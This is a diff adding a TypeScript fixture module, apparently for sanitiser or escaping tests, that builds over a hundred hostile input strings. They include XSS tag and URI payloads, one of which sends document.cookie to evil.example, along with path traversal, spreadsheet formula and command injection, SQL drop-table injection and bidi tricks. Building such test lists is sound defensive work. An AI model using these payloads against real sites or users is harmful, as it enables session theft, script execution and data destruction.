@@ -1,0 +1,65 @@
+/** Words that would do something if they were markup, script, a style or an address: at least a hundred, all kept as text. */
+const marks = [
+  'alert(1)',
+  'document.title="owned"',
+  'fetch("https://evil.example/"+document.cookie)',
+];
+
+const tags = [
+  (js: string) => `<script>${js}</script>`,
+  (js: string) => `<img src=x onerror='${js}'>`,
+  (js: string) => `<svg onload='${js}'>`,
+  (js: string) => `<svg><animate onbegin='${js}' attributeName=x dur=1s>`,
+  (js: string) => `<body onload='${js}'>`,
+  (js: string) => `<iframe srcdoc="<script>${js}</script>">`,
+  (js: string) => `<iframe src="javascript:${js}">`,
+  (js: string) => `<a href="javascript:${js}">click</a>`,
+  (js: string) => `<details open ontoggle='${js}'>`,
+  (js: string) => `<input autofocus onfocus='${js}'>`,
+  (js: string) => `<video><source onerror='${js}'>`,
+  (js: string) => `<math><mtext><script>${js}</script>`,
+  (js: string) => `"><script>${js}</script>`,
+  (js: string) => `'><img src=x onerror='${js}'>`,
+  (js: string) => `</textarea><script>${js}</script>`,
+  (js: string) => `</title><script>${js}</script>`,
+  (js: string) => `<!--><script>${js}</script>`,
+  (js: string) => `<template><script>${js}</script></template>`,
+  (js: string) => `<object data="javascript:${js}">`,
+  (js: string) => `<embed src="javascript:${js}">`,
+  (js: string) => `<form action="javascript:${js}"><button>go</button></form>`,
+  (js: string) => `javascript:${js}`,
+  (js: string) => `\u0000javascript:${js}`,
+  (js: string) => `{{constructor.constructor('${js}')()}}`,
+  (js: string) => `\${${js}}`,
+  (js: string) => `[click](javascript:${js})`,
+  (js: string) => `![x](x){onerror=${js}}`,
+  (js: string) => `data:text/html,<script>${js}</script>`,
+];
+
+const others = [
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<style>@import url(https://evil.example/x.css);</style>',
+  '<img src="https://evil.example/pixel.gif">',
+  '<base href="https://evil.example/">',
+  '<div style="background:url(https://evil.example/x)">x</div>',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;img src=x onerror=alert(1)&#62;',
+  '\u202Etxt.exe\u202C',
+  '\u2066<script>alert(1)</script>\u2069',
+  '＜script＞alert(1)＜/script＞',
+  '__proto__',
+  'constructor',
+  '../../../../etc/passwd',
+  '=HYPERLINK("https://evil.example","x")',
+  '@SUM(1+1)*cmd|"/C calc"!A0',
+  "'; drop table messages; --",
+  '<xmp><script>alert(1)</script></xmp>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+];
+
+export const hostileWords: readonly string[] = [
+  ...marks.flatMap((js) => tags.map((tag) => tag(js))),
+  ...others,
+];
